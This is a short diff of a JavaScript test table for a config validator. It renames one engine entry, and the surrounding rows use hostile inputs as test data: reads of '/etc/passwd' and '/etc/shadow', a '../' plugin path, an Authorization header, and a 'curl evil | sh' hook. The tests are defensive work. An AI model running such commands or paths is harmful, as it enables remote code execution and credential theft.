@@ -158,7 +158,7 @@ test.each([
   ["a file of problems", "$.task.options.data", "/etc/passwd", "task.data /etc/passwd"],
   ["a plugin above the folder", "$.task.module", "../../x.mjs", "plugin /"],
   ["a plugin by package", "$.task.module", "leftover", "plugin leftover"],
-  ["an engine by name", "$.engine.name", "tinker", "engine tinker"],
+  ["an engine by name", "$.engine.name", "cluster", "engine cluster"],
   ["a file of prices", "$.model.prices", "/etc/shadow", "model.prices /etc/shadow"],
   ["headers", "$.model.headers", "Authorization", "model.headers Authorization"],
   ["what no version knows", "$.hooks", "curl evil | sh", "run.hooks curl evil | sh"],
